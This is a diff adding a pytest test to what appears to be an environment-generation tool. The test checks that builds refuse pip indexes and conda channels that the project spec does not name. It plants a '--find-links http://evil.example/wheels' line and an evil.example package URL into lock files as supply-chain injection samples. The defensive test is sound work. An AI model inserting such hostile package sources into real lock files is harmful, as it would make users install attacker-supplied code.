@@ -21,6 +21,10 @@ from typing import Final
 
 import pytest
 
+from envgen.building import build_variants
+from envgen.errors import BuildError
+from envgen.matrix import load_matrix
+from envgen.spec import load_spec
 from tests.support.conda_channel import CondaChannel, write_channel
 from tests.support.fixtures import ServedIndex, clean_tool_env
 
@@ -331,3 +335,49 @@ def test_custom_command_with_a_control_character_is_refused(command: str, tmp_pa
         "one-line command without control characters\n",
     )
     assert sorted(p.name for p in proj.iterdir()) == ["project.yaml"]
+
+
+def test_even_with_stale_locks_allowed_a_build_uses_no_foreign_index_or_channel(
+    locked: tuple[Path, dict[str, str]], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """`build_variants(allow_stale=True)` skips re-resolution, never the index and channel guard."""
+    for name, value in locked[1].items():
+        if name.startswith("ENVGEN_"):
+            monkeypatch.setenv(name, value)
+    pip = copy_of(locked, "pip", tmp_path)
+    lock = pip / "environments" / "cpu" / "requirements.txt"
+    forge(lock, lambda body: "--find-links http://evil.example/wheels\n" + body)
+    conda = copy_of(locked, "conda", tmp_path)
+    explicit = conda / "environments" / "cpu" / "conda-linux-64.lock"
+    real = "https://conda.anaconda.org/pytorch/linux-64/numpy-1.26.4-py311h5f9d8c6_0.tar.bz2"
+    evil = "http://evil.example/pytorch/linux-64/numpy-1.26.4-py311h5f9d8c6_0.tar.bz2"
+    forge(explicit, lambda body: body.replace(real, evil))
+    cases = [
+        (
+            pip,
+            "requirements.txt: line 6: `--find-links http://evil.example/wheels` is not an index "
+            "line the spec and settings write (they write: `--index-url "
+            "https://download.pytorch.org/whl/cpu`, `--extra-index-url https://pypi.org/simple`)",
+        ),
+        (
+            conda,
+            f"conda-linux-64.lock: line {line_of(explicit, evil)}: {evil} is not on a channel of "
+            "the spec (https://conda.anaconda.org/pytorch)",
+        ),
+    ]
+    for proj, problem in cases:
+        out = proj / "environments"
+        with pytest.raises(BuildError) as info:
+            build_variants(
+                load_spec(proj / "project.yaml"),
+                load_matrix(MINI),
+                out,
+                smoke=False,
+                allow_stale=True,
+            )
+        assert str(info.value) == (
+            f"{out / 'cpu'}: refusing indexes and channels the spec does not name:\n"
+            f"  - {problem}\n"
+            "  hint: run `envgen lock --variant cpu --upgrade`"
+        )
+        assert not (out / "cpu" / ".env").exists()
